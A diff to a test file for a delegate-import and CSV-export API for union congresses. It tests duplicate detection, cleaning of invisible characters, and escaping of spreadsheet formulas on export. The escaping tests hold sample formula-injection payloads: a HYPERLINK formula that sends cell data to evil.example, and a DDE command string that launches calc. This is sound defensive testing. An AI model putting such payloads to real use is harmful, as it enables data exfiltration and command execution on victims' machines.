@@ -64,7 +64,9 @@ describe("importDelegates", () => {
     });
     const seat = wang.seats.find((s: any) => s.congress.id === congress);
     expect(seat.delegation).toBe("第二代表团");
-    expect(seat.source.document.title).toMatch(/^Delegate list for 测试市工会第二次代表大会, imported by env:organiser#1 on \d{4}-\d{2}-\d{2}$/);
+    // a public record: what was imported and when; who did it is in the (admin-only) audit log below
+    expect(seat.source.document.title).toMatch(/^Delegate list for 测试市工会第二次代表大会, imported on \d{4}-\d{2}-\d{2}$/);
+    expect(seat.source.document.title).not.toContain("organiser");
     expect(zhou).toMatchObject({ gender: "FEMALE", employer: { name: "测试新材料有限公司", kind: "COMPANY" }, positions: [{ title: "技术员" }] });
     // people are matched, not duplicated
     expect(ok(await server.gql(`{ people(filter: { nameContains: "王宝刚" }) { totalCount } }`)).people.totalCount).toBe(1);
@@ -98,6 +100,7 @@ describe("importDelegates", () => {
     const second = ok(await server.gql(IMPORT, { csv: csv.replace(",一团,乙公司", "乙,一团,乙公司").replace("丙,一团,,组长", "丙,一团,,").replace("(3000),未知", "(2020),女"), congress }, ORGANISER)).importDelegates;
     expect(second.errors).toEqual([
       { row: 5, column: "honours", message: 'unknown honour "不存在的荣誉"; add it first (createHonour)' },
+      { row: 6, column: "name", message: "row 6 repeats row 2: both add a new person named 甲 at 甲公司" },
     ]);
     expect(await dumpDatabase(server.ds)).toEqual(before);
   });
@@ -122,6 +125,71 @@ describe("importDelegates", () => {
   test("imports need an organiser or admin token, and a real congress", async () => {
     expect(firstError(await server.gql(IMPORT, { csv: SAMPLE, congress: gd15 })).extensions).toEqual({ code: "UNAUTHENTICATED" });
     expect(firstError(await server.gql(IMPORT, { csv: SAMPLE, congress: Buffer.from("Congress:999").toString("base64") }, ORGANISER)).extensions).toEqual({ code: "BAD_USER_INPUT", field: "congress" });
+  });
+});
+
+describe("rows that repeat or share a name", () => {
+  test("two identical new rows: dry run and real run both answer one row error naming both rows, and nothing is written", async () => {
+    const congress = await newCongress("测试市工会第九次代表大会");
+    const csv = "name,delegation,employer\n重复新人,一团,重复测试公司\n重复新人,一团,重复测试公司\n";
+    const before = await dumpDatabase(server.ds);
+    for (const dryRun of [true, false]) {
+      const report = ok(await server.gql(IMPORT, { csv, congress, dryRun }, ORGANISER)).importDelegates;
+      expect(report).toEqual({
+        created: 0, updated: 0, unchanged: 0, rows: 2, dryRun,
+        errors: [{ row: 3, column: "name", message: "row 3 repeats row 2: both add a new person named 重复新人 at 重复测试公司" }],
+      });
+    }
+    expect(await dumpDatabase(server.ds)).toEqual(before);
+  });
+
+  test("the same new name at two employers is two people, and the file imports again unchanged", async () => {
+    const congress = await newCongress("测试市工会第十次代表大会");
+    const csv = "name,delegation,employer\n同名新人,一团,甲测试公司\n同名新人,二团,乙测试公司\n";
+    expect(ok(await server.gql(IMPORT, { csv, congress, dryRun: true }, ORGANISER)).importDelegates).toMatchObject({ created: 2, errors: [] });
+    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toMatchObject({ created: 2, errors: [] });
+    const delegates = ok(await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name employer { name } seats { delegation } } } }`, { c: congress })).delegates.nodes;
+    expect(delegates.map((d: any) => [d.name, d.employer.name, d.seats[0].delegation]).sort()).toEqual([["同名新人", "乙测试公司", "二团"], ["同名新人", "甲测试公司", "一团"]]);
+    // each row finds its own namesake by the employer: the same file again changes nothing
+    const before = await dumpDatabase(server.ds);
+    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toEqual({ created: 0, updated: 0, unchanged: 2, rows: 2, dryRun: false, errors: [] });
+    expect(await dumpDatabase(server.ds)).toEqual(before);
+    // a row naming neither employer cannot say which of the two it is
+    const third = ok(await server.gql(IMPORT, { csv: "name,employer\n同名新人,\n", congress }, ORGANISER)).importDelegates;
+    expect(third.errors).toEqual([{ row: 2, column: "name", message: "2 people are named 同名新人; add the id column to say which" }]);
+  });
+
+  test("the same new name with and without an employer cannot be told apart: a row error, nothing written", async () => {
+    const congress = await newCongress("测试市工会第十一次代表大会");
+    const before = await dumpDatabase(server.ds);
+    const report = ok(await server.gql(IMPORT, { csv: "name,employer\n另一新人,甲测试公司\n另一新人,\n", congress }, ORGANISER)).importDelegates;
+    expect(report.errors).toEqual([
+      { row: 3, column: "employer", message: "row 3 and row 2 both add a new person named 另一新人; give each its employer to tell them apart" },
+    ]);
+    expect(await dumpDatabase(server.ds)).toEqual(before);
+  });
+});
+
+describe("clean text in cells", () => {
+  test("invisible characters are taken out of names, so 王\\u200b宝\\u200d刚 is 王宝刚", async () => {
+    const csv = "name,employer\n王\u200b宝\u200d刚\u202c,约克广州空调冷冻\u200b设备有限公司\n";
+    expect(ok(await server.gql(IMPORT, { csv, congress: gd15, dryRun: true }, ORGANISER)).importDelegates).toEqual({ created: 0, updated: 0, unchanged: 1, rows: 1, dryRun: true, errors: [] });
+  });
+
+  test("a control character, a lone surrogate or a name of nothing visible is a row error naming the column, nothing written", async () => {
+    const congress = await newCongress("测试市工会第十二次代表大会");
+    const before = await dumpDatabase(server.ds);
+    const csv = "name,delegation,employer,title\n李\u0000四,一团,,\n\u200b\u200d,一团,,\n张三,一团\u0007,,\n赵六,一团,甲公司\ud800,\n钱七,一团,甲公司,技师；\u2060\n";
+    const report = ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates;
+    expect(report.errors).toEqual([
+      { row: 2, column: "name", message: "name contains the control character U+0000" },
+      { row: 3, column: "name", message: "name has no letter or digit once invisible characters are taken out" },
+      { row: 4, column: "delegation", message: "delegation contains the control character U+0007" },
+      // the CSV reader would turn it into U+FFFD, so it is found on its line before the cells are read
+      { row: 5, column: null, message: "line 5 contains a lone surrogate U+D800, which is not text" },
+      { row: 6, column: "title", message: "title has no letter or digit once invisible characters are taken out" },
+    ]);
+    expect(await dumpDatabase(server.ds)).toEqual(before);
   });
 });
 
@@ -185,6 +253,45 @@ describe("export", () => {
       expect(report.unchanged).toBe(report.rows);
       expect(await dumpDatabase(server.ds)).toEqual(before);
     }
+  });
+
+  test("cells a spreadsheet would run as a formula get a leading ', every cell is quoted, and export → import changes nothing", async () => {
+    const congress = await newCongress("测试市工会第十三次代表大会");
+    const gql = async (query: string, variables: Record<string, unknown>) => Object.values(ok(await server.gql(query, variables, ORGANISER)))[0] as any;
+    const calc = await gql(`mutation ($n: String!) { createOrganisation(input: { name: $n, kind: COMPANY }) { id } }`, { n: "+cmd|' /C calc'!A0" });
+    const people = [
+      { name: '=HYPERLINK("http://evil.example/?d="&A1,"点我")', employer: calc.id, delegation: "@SUM(1+1)", title: "-2+3" },
+      { name: "'=1+1", delegation: "一团;=1+1" },
+      { name: "'t Hooft" },
+    ];
+    for (const p of people) {
+      const person = await gql(`mutation ($n: String!, $e: ID) { createPerson(input: { name: $n, employer: $e }) { id } }`, { n: p.name, e: p.employer ?? null });
+      await gql(`mutation ($p: ID!, $c: ID!, $d: String) { addSeat(input: { person: $p, congress: $c, delegation: $d }) { id } }`, { p: person.id, c: congress, d: p.delegation ?? null });
+      if (p.title) await gql(`mutation ($p: ID!, $o: ID!, $t: String!) { addPosition(input: { person: $p, organisation: $o, title: $t }) { id } }`, { p: person.id, o: p.employer, t: p.title });
+    }
+    const { text } = await exportCsv(congress);
+    const rows: Record<string, string>[] = parse(text.replace(/^\uFEFF/, ""), { columns: true });
+    const byName = (prefix: string) => rows.find((r) => r.name.startsWith(prefix))!;
+    expect(byName("'=H")).toMatchObject({ name: `'${people[0].name}`, employer: "'+cmd|' /C calc'!A0", delegation: "'@SUM(1+1)", title: "'-2+3" });
+    // data that itself starts with ' gets one more, so the import can tell the two apart
+    expect(byName("''=")).toMatchObject({ name: "''=1+1", delegation: "一团;=1+1" });
+    expect(byName("''t")).toMatchObject({ name: "''t Hooft" });
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // quoted, so a spreadsheet that splits on ; (as many locales do) cannot start a cell at "=1+1"
+    expect(text).toContain('"一团;=1+1"');
+
+    const before = await dumpDatabase(server.ds);
+    const report = ok(await server.gql(IMPORT, { csv: text, congress }, ORGANISER)).importDelegates;
+    expect(report).toEqual({ created: 0, updated: 0, unchanged: 3, rows: 3, dryRun: false, errors: [] });
+    expect(await dumpDatabase(server.ds)).toEqual(before);
+  });
+
+  test("the import takes away exactly the export's ': one in front of = + - @ tab, carriage return or ', nothing else", async () => {
+    const congress = await newCongress("测试市工会第十四次代表大会");
+    const csv = "name,employer\n'@某人,'+某测试公司\n'甲某,\n";
+    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toMatchObject({ created: 2, errors: [] });
+    const names = ok(await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name employer { name } } } }`, { c: congress })).delegates.nodes;
+    expect(names).toEqual(expect.arrayContaining([{ name: "@某人", employer: { name: "+某测试公司" } }, { name: "'甲某", employer: null }]));
   });
 
   test("bad or unknown congress", async () => {
